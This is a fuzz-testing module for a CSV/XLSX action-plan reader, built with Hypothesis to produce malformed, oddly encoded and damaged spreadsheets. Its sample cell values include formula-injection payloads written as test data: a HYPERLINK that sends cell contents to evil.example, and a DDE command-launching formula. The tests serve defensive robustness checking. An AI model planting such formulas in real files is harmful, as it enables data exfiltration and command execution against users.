"""Fuzzing the action-plan reader: every generated plan reads, or fails as one `InputFileError` line.

Generated CSV and XLSX plans mix plan headers with random ones, merged cells, formulas, hidden
sheets, huge cells, control characters, odd encodings and damaged bytes. Bounded by example
counts; the number of inputs each kind ran is printed (`pytest -s`) and checked.
"""

from __future__ import annotations

import tempfile
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from importers.action_plan import read_action_plan
from importers.plan_limits import MAX_CELL_CHARS
from importers.plan_model import ActionPlan
from peergraph.core.errors import InputFileError

pytestmark = pytest.mark.slow

MAX_BYTES = 5 * 1024 * 1024
HEADERS = [
    "Ref",
    "Recommendation",
    "Action",
    "Actions to address recommendation",
    "Lead officer",
    "Responsible",
    "Target date",
    "By when",
    "Status",
    "RAG",
    "Progress update",
    "Date of update",
    "peergraph row key",
    "Notes",
]
CELL_TEXT = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "Q5 2024/25",
            "31/02/2025",
            "Q3 2025/26",
            "March 2026",
            "On track",
            "Red",
            "As at 30 June 2025",
            '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
            "=cmd|' /C calc'!A0",
            "+1",
            "-2",
            "@SUM(1)",
            "'=quoted",
            "DASS / Jane Smith",
        ]
    ),
    st.integers(min_value=1, max_value=MAX_CELL_CHARS + 10).map(lambda size: "x" * size),
)
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252"]


def _check(name: str, data: bytes) -> None:
    """Read `data` saved as `name`: a plan, or one line naming the file; anything else fails the test."""
    with tempfile.TemporaryDirectory(prefix="peergraph-fuzz-") as folder:
        path = Path(folder) / name
        path.write_bytes(data)
        try:
            plan = read_action_plan(path, MAX_BYTES)
        except InputFileError as error:
            message = str(error)
            assert message.startswith(f"{name}: ") and "\n" not in message, message
            return
    assert isinstance(plan, ActionPlan) and plan.actions


@st.composite
def csv_plans(draw: st.DrawFn) -> bytes:
    header = draw(st.lists(st.one_of(st.sampled_from(HEADERS), st.text(max_size=15)), min_size=1, max_size=8))
    rows = draw(st.lists(st.lists(CELL_TEXT, max_size=len(header) + 2), max_size=8))
    above = draw(st.lists(st.lists(CELL_TEXT, max_size=3), max_size=3))
    delimiter = draw(st.sampled_from([",", ";", "\t", "|"]))
    lines = [
        delimiter.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in [*above, header, *rows]
    ]
    text = "\r\n".join(lines) if draw(st.booleans()) else "\n".join(lines)
    encoding = draw(st.sampled_from(ENCODINGS))
    return text.encode(encoding, errors="replace")


@st.composite
def xlsx_plans(draw: st.DrawFn) -> bytes:
    workbook = Workbook()
    for number in range(draw(st.integers(min_value=1, max_value=3))):
        sheet = workbook.active if number == 0 else workbook.create_sheet()
        assert sheet is not None
        sheet.title = draw(
            st.sampled_from(["Action plan", "Instructions", "History", "Theme 1", "Sheet x"])
        ) + (f" {number}" if number else "")
        if number and draw(st.booleans()):
            sheet.sheet_state = "hidden"
        header = draw(st.lists(st.sampled_from(HEADERS), min_size=1, max_size=8))
        start = draw(st.integers(min_value=1, max_value=4))
        for column, name in enumerate(header, 1):
            sheet.cell(start, column, name)
        printable = CELL_TEXT.map(lambda text: "".join(ch for ch in text if ch >= " " or ch in "\t\n"))
        for row in range(draw(st.integers(min_value=0, max_value=8))):
            for column, value in enumerate(draw(st.lists(printable, max_size=len(header) + 1)), 1):
                sheet.cell(start + 1 + row, column, value)
        for _ in range(draw(st.integers(min_value=0, max_value=2))):
            top, left = draw(st.integers(1, 10)), draw(st.integers(1, 6))
            sheet.merge_cells(
                start_row=top,
                start_column=left,
                end_row=top + draw(st.integers(0, 4)),
                end_column=left + draw(st.integers(0, 3)),
            )
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _damaged(data: bytes, flips: list[tuple[int, int]]) -> bytes:
    damaged = bytearray(data)
    for position, value in flips:
        damaged[position % len(damaged)] = value
    return bytes(damaged)


FLIPS = st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), min_size=1, max_size=6)


@pytest.mark.parametrize(
    ("kind", "inputs", "name", "examples"),
    [
        ("csv", csv_plans(), "plan.csv", 1000),
        ("xlsx", xlsx_plans(), "plan.xlsx", 400),
        ("damaged xlsx", st.builds(_damaged, xlsx_plans(), FLIPS), "plan.xlsx", 300),
    ],
)
def test_generated_plans_read_or_fail_in_one_line(
    kind: str, inputs: st.SearchStrategy[bytes], name: str, examples: int
) -> None:
    ran = 0

    @given(inputs)
    @settings(
        max_examples=examples, deadline=None, suppress_health_check=[HealthCheck.too_slow], database=None
    )
    def read_one(data: bytes) -> None:
        nonlocal ran
        ran += 1
        _check(name, data)

    read_one()
    print(f"\nplan reader fuzz, {kind}: {ran} inputs")
    assert ran >= examples // 2, "hypothesis ran far fewer inputs than asked"


def test_a_workbook_whose_sheet_xml_is_cut_fails_in_one_line() -> None:
    buffer = BytesIO()
    workbook = Workbook()
    workbook.active.append(["Action", "Owner"])  # type: ignore[union-attr]
    workbook.save(buffer)
    parts = {}
    with zipfile.ZipFile(buffer) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:120]
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    _check("plan.xlsx", out.getvalue())
